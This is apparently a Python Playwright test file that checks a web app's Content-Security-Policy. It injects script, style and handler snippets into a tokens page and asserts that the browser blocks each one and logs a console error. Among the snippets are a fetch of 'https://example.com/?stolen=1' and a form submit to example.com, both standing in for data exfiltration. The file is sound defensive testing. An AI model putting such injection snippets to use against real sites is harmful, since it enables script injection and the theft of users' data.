"""The Content-Security-Policy is in force, and pages do without what it forbids: violations are console errors."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from scripts.site import Site
from tests.browser.conftest import Opener
from tests.browser.visits import Visit

VIOLATES = "(?i)violates the (following|document's) Content Security Policy|'unsafe-eval' is not an allowed source"
MAKE = "const make = (tag, more) => document.head.appendChild(Object.assign(document.createElement(tag), more));"
INJECTED = {
    "a script in the page": "make('script', { textContent: 'window.got = 1' })",
    "a script from elsewhere": "make('script', { src: 'https://example.com/x.js', onload: () => { window.got = 1 } })",
    "a handler in an attribute": "document.body.setAttribute('onclick', 'window.got = 1'); document.body.click()",
    "code made from text": "setTimeout('window.got = 1')",
    "a style sheet without the nonce": (
        "make('style', { textContent: 'body { position: fixed }' });"
        "if (getComputedStyle(document.body).position === 'fixed') window.got = 1"
    ),
    "a style in markup": (
        "document.body.insertAdjacentHTML('beforeend', '<i id=x style=position:fixed>');"
        "if (getComputedStyle(document.getElementById('x')).position === 'fixed') window.got = 1"
    ),
    "an answer sent elsewhere": "fetch('https://example.com/?stolen=1').then(() => { window.got = 1 }, () => {})",
    "a form sent elsewhere": "make('form', { action: 'https://example.com/' }).submit()",
}


@pytest.mark.parametrize("what", INJECTED)
def test_what_is_injected_does_nothing_and_is_complained_of(desk: Visit, what: str) -> None:
    page = desk.go("/tokens")
    expect(page.get_by_text("You have no tokens.").or_(page.get_by_role("table"))).to_be_visible()
    desk.expect_complaint(VIOLATES)
    with page.expect_console_message(lambda message: message.type == "error"):
        page.evaluate(f"() => {{ {MAKE} {INJECTED[what]} }}")
    assert page.evaluate("window.got") is None
    assert desk.heard


def test_pages_of_the_server_are_drawn_without_complaint(open_page: Opener, site: Site, desk: Visit) -> None:
    stranger = open_page(site.origin)
    page = stranger.go("/login")
    assert page.evaluate("getComputedStyle(document.body).display") == "grid"
    stranger.expect_complaint("404")
    assert stranger.go("/share/nothing").evaluate("getComputedStyle(document.body).display") == "grid"
    page = desk.go("/api/docs/")
    expect(page.get_by_role("heading", name="Scheduling Playground")).to_be_visible()
    expect(page.locator(".opblock").first).to_be_visible()
